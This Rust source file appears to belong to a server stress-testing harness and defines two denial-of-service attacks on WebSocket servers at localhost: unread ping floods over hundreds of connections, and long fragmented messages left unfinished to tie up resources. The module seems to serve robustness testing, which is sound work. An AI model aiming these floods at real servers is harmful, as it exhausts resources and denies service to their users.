//! Attacks on those who speak WebSocket (RFC 6455).

use super::attacker::Attacker;
use crate::failure::Result;

/// Asks for a WebSocket, as the first thing on a connection.
const UPGRADE: &[u8] = b"GET /t/ws HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\n\
    upgrade: websocket\r\nsec-websocket-version: 13\r\n\
    sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

/// Pings whose answers nobody reads.
pub(super) fn pings(attacker: &mut Attacker) -> Result<()> {
    let ping = [&[0x89, 0xfd, 0, 0, 0, 0], [b'x'; 125].as_slice()].concat();
    let flood = ping.repeat(200);
    let http = attacker.http;
    attacker.keep(http, 4, UPGRADE);
    attacker.on_each(http, UPGRADE, 400, |socket, _| socket.say(&flood))
}

/// Long messages that are begun and not ended.
pub(super) fn fragments(attacker: &mut Attacker) -> Result<()> {
    let length = 60_000_u16;
    let head = [&[0x01, 0xfe], length.to_be_bytes().as_slice(), &[0; 4]].concat();
    let fragment = [head, vec![b'x'; length.into()]].concat();
    let begun = [UPGRADE, &fragment].concat();
    let http = attacker.http;
    attacker.keep(http, 200, &begun);
    attacker.on_each(http, &begun, 200, |socket, _| socket.say(b""))
}
